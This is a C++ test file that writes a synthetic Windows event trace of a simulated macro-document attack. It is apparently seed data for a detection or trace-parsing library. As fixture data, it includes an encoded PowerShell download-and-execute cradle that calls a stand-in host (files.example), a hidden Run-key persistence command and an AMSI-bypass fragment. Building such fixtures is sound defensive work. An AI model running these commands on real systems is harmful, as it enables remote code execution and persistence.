// examples/traces/workstation.etl, which the documentation and the tests of lib/ use, is what the
// writer makes: a minute of an invented workstation, on which a document starts PowerShell.
// NUTHATCH_WRITE_SEEDS=1 writes it.
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>

#include "etw/etl_writer.h"
#include "trace/trace_records.h"

namespace nuthatch {
namespace {

constexpr uint32_t kExplorer = 4120;
constexpr uint32_t kWord = 5204;
constexpr uint32_t kPowerShell = 6012;
constexpr std::string_view kWordPath =
    "\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
constexpr std::string_view kEncoded =
    "SQBFAFgAIAAoACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG"
    "4A"
    "bABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwBmAGkAbABlAHMALgBlAHgAYQBtAHAAbABlAC8AYQAnAC"
    "kA"
    "KQA=";  // IEX ((New-Object Net.WebClient).DownloadString('http://files.example/a'))
const Bytes kMaria = {1,  5, 0, 0, 0,  0, 0, 5, 21, 0, 0, 0,  // S-1-5-21-11-22-33-1001
                      11, 0, 0, 0, 22, 0, 0, 0, 33, 0, 0, 0, 0xE9, 3, 0, 0};

constexpr uint64_t Milliseconds(uint64_t number) { return number * (kSecond / 1000); }

Bytes Process(uint64_t tick, uint8_t type, uint32_t pid, uint32_t parent, std::string_view image,
              std::string_view command_line) {
  return ProcessRecord({.tick = tick, .pid = type == kStart ? parent : pid}, type, pid, parent,
                       image, command_line, 8, kMaria);
}

Bytes Image(uint64_t tick, uint8_t type, uint32_t pid, uint64_t base, std::string_view path) {
  return ImageRecord({.tick = tick, .pid = pid}, 0x14, type, pid, base,
                     "\\Device\\HarddiskVolume3" + std::string(path));
}

Bytes ByPowerShell(uint64_t tick, const Guid& provider, uint16_t id, uint8_t version,
                   const Payload& payload) {
  return Provider({.tick = tick, .pid = kPowerShell}, provider, id, version, payload);
}

// Of a fixed length, in characters.
void Fill(std::string_view text, size_t length, Payload* payload) {
  payload->Wide(text).Raw(Bytes(2 * (length - text.size() - 1)));
}

std::vector<Bytes> Machine() {
  Payload cpu;
  cpu.U32(2400).U32(4).U32(16384).U32(4096).U32(65536);
  Fill("WS-0117", 256, &cpu);
  Fill("corp.example", 134, &cpu);
  cpu.Ptr(0);
  return {
      Kernel({.pid = 4}, 0x0B, 0x0A, 2, cpu),
      VolumeMapping(0, "\\Device\\HarddiskVolume3\\", "C:\\"),
      Process(0, kDcStart, kExplorer, 4100, "explorer.exe", "C:\\Windows\\Explorer.EXE"),
      Image(0, kDcStart, kExplorer, 0x7FF600000000, "\\Windows\\explorer.exe"),
      Process(0, kDcStart, kWord, kExplorer, "WINWORD.EXE",
              "\"C:" + std::string(kWordPath) +
                  "\" /n \"C:\\Users\\maria.keller\\Downloads\\invoice.docm\""),
      Image(0, kDcStart, kWord, 0x7FF610000000, kWordPath),
  };
}

Bytes Asked(uint64_t tick) {
  Payload payload;
  payload.Wide("files.example").U32(1).U64(0x6008).U32(0).Wide("::ffff:203.0.113.7;");
  return ByPowerShell(tick, ParseGuid("1c95126e-7eea-49a9-a3fe-a378b03ddb4d"), 3008, 0, payload);
}

Bytes Connected(uint64_t tick) {
  Payload payload;
  payload.U32(kPowerShell).U32(0).Raw({203, 0, 113, 7, 10, 20, 0, 17, 0, 80, 0xC3, 0x51});
  payload.U16(1460).U16(1).U16(0).U16(1).U32(65535).U16(8).U16(8).U32(0).Ptr(0);
  return Kernel({.tick = tick, .pid = kPowerShell}, 6, 0x0C, 2, payload);
}

Bytes Ran(uint64_t tick) {
  Payload payload;
  payload.U32(1).U32(1);
  payload.Wide("$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Length])%256};$D|%{$_-bxor$S[1]}");
  payload.Wide("6f0e3b52-6f0a-4a9e-8a39-0c1f5a1b2c3d").Wide("");
  return ByPowerShell(tick, ParseGuid("a0c1853b-5c40-4b15-8766-3cf1c58f985a"), 4104, 1, payload);
}

// AMSI takes text without its NUL; the hash is invented.
Bytes Scanned(uint64_t tick) {
  constexpr std::string_view kText = "[Ref].Assembly.GetTypes()";
  Payload payload;
  payload.Ptr(0).U8(1).U32(1).Wide("PowerShell_powershell.exe_10.0.19041.1").Wide("");
  payload.U32(2 * kText.size()).U32(2 * kText.size());
  for (const char c : kText) payload.U16(static_cast<unsigned char>(c));
  payload.Raw(Bytes(32, 0xAB)).U32(0);
  return ByPowerShell(tick, ParseGuid("2a576b87-09a7-520e-c21a-4942f0271d67"), 1101, 0, payload);
}

constexpr uint64_t kKey = 0xFFFF'E000'0000'1234;

Bytes OpenedKey(uint64_t tick) {
  Payload payload;
  payload.Ptr(0).Ptr(kKey).U32(0).U32(2).Wide("");
  payload.Wide(
      "\\REGISTRY\\USER\\S-1-5-21-11-22-33-"
      "1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
  return ByPowerShell(tick, kKernelRegistry, 1, 0, payload);
}

Bytes SetValue(uint64_t tick) {
  constexpr std::string_view kData = "powershell.exe -w hidden -f C:\\Users\\Public\\update.ps1";
  constexpr uint16_t kSize = 2 * (kData.size() + 1);
  Payload payload;
  payload.Ptr(kKey).U32(0).U32(1).U32(kSize).Wide("").Wide("Update");
  payload.U16(kSize).Wide(kData).U32(0).U32(0).U16(0);
  return ByPowerShell(tick, kKernelRegistry, 5, 0, payload);
}

std::vector<Bytes> Attack() {
  const uint64_t start = Milliseconds(12'500);
  return {
      Process(start, kStart, kPowerShell, kWord, "powershell.exe",
              "powershell.exe -NoP -W Hidden -enc " + std::string(kEncoded)),
      Image(start + Milliseconds(2), 0x0A, kPowerShell, 0x7FF620000000,
            "\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
      Asked(start + Milliseconds(900)),
      Connected(start + Milliseconds(930)),
      Ran(start + Milliseconds(1080)),
      OpenedKey(start + Milliseconds(1480)),
      SetValue(start + Milliseconds(1481)),
      Scanned(start + Milliseconds(1500)),
      Process(start + Milliseconds(31'500), kEnd, kPowerShell, kWord, "powershell.exe", ""),
  };
}

TEST(ExampleTrace, IsWhatTheWriterMakes) {
  EtlWriter writer({.session = "Example", .file = "C:\\workstation.etl"});
  writer.Add({.records = Machine()});
  writer.Add({.cpu = 1, .records = Attack()});
  const std::filesystem::path path = "examples/traces/workstation.etl";
  if (std::getenv("NUTHATCH_WRITE_SEEDS") != nullptr) {
    std::filesystem::create_directories(path.parent_path());
    std::ofstream(path, std::ios::binary)
        .write(reinterpret_cast<const char*>(writer.bytes().data()),
               static_cast<std::streamsize>(writer.bytes().size()));
  }
  std::ifstream file(path, std::ios::binary);
  const Bytes stored(std::istreambuf_iterator<char>(file), {});
  EXPECT_EQ(stored, writer.bytes()) << path << ": NUTHATCH_WRITE_SEEDS=1 writes it anew";
}

}  // namespace
}  // namespace nuthatch
